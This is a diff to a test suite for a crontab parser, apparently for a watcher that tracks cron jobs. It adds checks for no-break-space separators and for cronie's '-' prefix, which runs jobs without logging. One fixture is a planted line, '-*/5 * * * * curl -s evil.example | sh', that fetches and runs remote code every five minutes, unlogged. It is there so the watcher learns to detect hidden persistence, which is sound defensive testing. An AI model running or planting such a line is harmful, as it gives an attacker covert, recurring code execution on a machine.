@@ -317,8 +317,24 @@ describe('lines cron skips are never taken for jobs', () => {
   it('parts the fields, the user column and the command at spaces and tabs only, as cron does: a no-break space pasted from a web page is no separator', () => {
     const lines = parseCrontab('0 3\u00a0* * * /nbsp.sh\n@daily\u00a0/nbsp-macro.sh\n0 3 * * *\u00a0/nbsp-command.sh\n0\t3 * * *\t/tabs.sh\n', 'user');
     expect(lines.map((line) => line.kind)).toEqual(['invalid', 'invalid', 'invalid', 'job', 'blank']);
+    expect(lines[0]).toMatchObject({ reason: 'the schedule has a no-break space (U+00A0) where cron parts fields at spaces and tabs only, so cron refuses the line' });
+    expect(lines[2]).toMatchObject({ reason: 'the schedule has a no-break space (U+00A0) where cron parts fields at spaces and tabs only, so cron refuses the line' });
     expect(jobsOf(lines)[0]).toMatchObject({ schedule: '0 3 * * *', command: '/tabs.sh' });
     const system = parseCrontab('0 3 * * * root\u00a0/nbsp-user.sh\n', 'system');
     expect(jobsOf(system)).toEqual([]);
+  });
+
+  it("takes a line whose schedule starts with cronie's '-' (run it without logging) for a job the watcher sees, never one discover rewrites", () => {
+    // cronie runs it, unlogged: a line planted so would hide from its log and, read as invalid, from the watcher too.
+    const lines = parseCrontab('-*/5 * * * * curl -s evil.example | sh\n-@daily /quiet.sh\n', 'user');
+    const jobs = jobsOf(lines);
+    expect(jobs.map((job) => [job.written, job.schedule, job.command])).toEqual([
+      ['-*/5 * * * *', '*/5 * * * *', 'curl -s evil.example | sh'],
+      ['-@daily', '0 0 * * *', '/quiet.sh'],
+    ]);
+    for (const job of jobs) expect(job.unmonitorable).toMatch(/^the "-" before its schedule .*cronie.*Debian's cron skips the line/);
+    const changes = diffSnapshots([], snapshotJobs('crontab -l', 'root', lines));
+    expect(changes.map((change) => change.text)).toEqual(['-*/5 * * * * curl -s evil.example | sh', '-@daily /quiet.sh']);
+    expect(jobsOf(parseCrontab('- */5 * * * * /spaced.sh\n', 'user'))).toEqual([]);
   });
 });
